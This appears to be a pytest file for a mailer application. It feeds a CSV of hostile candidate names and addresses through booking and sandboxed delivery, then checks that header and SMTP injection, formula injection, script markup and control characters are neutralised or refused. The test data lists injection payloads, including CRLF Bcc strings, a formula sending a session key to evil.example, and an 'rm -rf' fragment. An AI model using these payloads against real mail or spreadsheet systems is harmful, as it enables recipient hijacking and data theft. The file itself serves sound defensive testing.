"""A candidates file written by an attacker, from the file to the delivered mail: one stored address, harmless names."""

import csv
from dataclasses import replace

import pytest

from mailer import sandbox
from mailer.config import MailSettings, check
from mailer.delivery import deliver
from mailer.mailbox import Mailbox
from store import batches, times
from store.database import fetch

HEADER = (
    "candidate_name",
    "candidate_email",
    "job_title",
    "company_name",
    "slot_date",
    "start_time",
    "duration_minutes",
)
NAMES = (
    "Eve\r\nBcc: victim@example.org",
    "Eve\n\n.\r\nMAIL FROM:<x@example.org>",
    "\u202eevE\u2066 Mallory\u200f",
    "=?utf-8?q?Eve=0D=0ABcc=3A_victim=40example=2Eorg?=",
    'Eve "the" Mallory, <victim@example.org>',
    "Eve; Mallory \\ 'quoted' `rm -rf`",
    "=HYPERLINK(\"https://evil.example/?session_key=\")",
    "<script>alert(1)</script>",
    "E\u0301ve \U0001f600 \u0645\u0631\u064a\u0645",
    "Eve\u2028Bcc: victim@example.org\u2029\x85",
)  # fmt: skip
ADDRESSES = (
    "eve@example.com\r\nBcc: victim@example.org",
    "eve@example.com>\r\nRCPT TO:<victim@example.org",
    "eve@example.com, victim@example.org",
    "eve@example.com;victim@example.org",
    "Eve <eve@example.com>",
    "eve(comment)@example.com",
    '"eve\\" victim"@example.com',
    "=?utf-8?q?eve?=@example.com",
    "eve@example.com ORCPT=rfc822;victim@example.org",
    "eve@exa\u200bmple.com",
    "@victim.example.org:eve@example.com",
    "eve%victim@example.org@example.com",
    "eve@[127.0.0.1]",
)


@pytest.fixture
def delivered(db, settings, ring, tmp_path):
    """Books a file of hostile rows, delivers what was booked, and gives the rows' outcomes and the mailbox."""
    path = tmp_path / "hostile.csv"
    rows = [(name, f"eve{number}@example.com") for number, name in enumerate(NAMES)]
    rows += [("Eve", address) for address in ADDRESSES] + [
        ("E" * 100_000, "long@example.com"),
        ("Eve", "\u00e9ve@example.com"),
    ]
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADER)
        for number, (name, address) in enumerate(rows):
            writer.writerow(
                (
                    name,
                    address,
                    "Engineer",
                    "Example Labs",
                    f"2099-{number // 28 + 1:02d}-{number % 28 + 1:02d}",
                    "09:00",
                    30,
                )
            )
    settings = settings.model_copy(update={"candidates_row_chars": 120_000})
    report = batches.book_batch(db, path, settings=settings, ring=ring, clock=times.now)
    mail = MailSettings(email_backend="sandbox", sandbox_mailbox=str(tmp_path / "mailbox"))
    account = check(mail, settings).usable()
    with sandbox.start(account.mailbox) as server:
        deliver(db, account=replace(account, port=server.port), settings=settings, ring=ring)
    return report, Mailbox(tmp_path / "mailbox")


def test_nothing_but_the_one_stored_address_reaches_envelope_or_header(delivered, db):
    _, box = delivered
    stored = dict(fetch(db, "SELECT message_id, recipient FROM notification WHERE state = 'sent'"))
    mails = [mail for copies in box.index().values() for mail in copies]
    assert len(mails) == len(stored) >= len(NAMES)
    for mail in mails:
        message = mail.message
        recipient = stored[message["Message-ID"]]
        assert mail.recipient_envelope == recipient == str(message["To"])
        assert {name.lower() for name in message} & {"bcc", "cc", "resent-to", "reply-to"} == set()
        assert b"victim@example.org" not in mail.sent.partition(b"\r\n\r\n")[0]
        assert not message.defects


def test_unusable_addresses_are_refused_and_never_mailed(delivered, db):
    report, _ = delivered
    refused = fetch(db, "SELECT line, code FROM batch_row WHERE outcome = 'refused' AND code = 'email_invalid'")
    assert len(refused) == len(ADDRESSES)
    assert fetch(db, "SELECT count(*) FROM candidate WHERE address LIKE '%victim%'") == [(0,)]
    assert report.codes["name_too_long"] == 1


def test_names_are_made_harmless_and_kept_readable(delivered, db):
    names = [row[0] for row in fetch(db, "SELECT name FROM candidate ORDER BY id")]
    assert "Eve Bcc: victim@example.org" in names
    assert "=?utf-8?q?Eve=0D=0ABcc=3A_victim=40example=2Eorg?=" in names
    assert not [name for name in names if set(name) & set("\r\n\u2028\u2029\x85\u202e\u2066\u200f")]


def test_markup_in_a_name_is_text_in_the_mail(delivered):
    _, box = delivered
    mails = [mail for copies in box.index().values() for mail in copies]
    assert sum(b"&lt;script&gt;" in mail.sent for mail in mails) == 1
    assert not [mail for mail in mails if b"<script>" in mail.sent.partition(b"text/html")[2]]
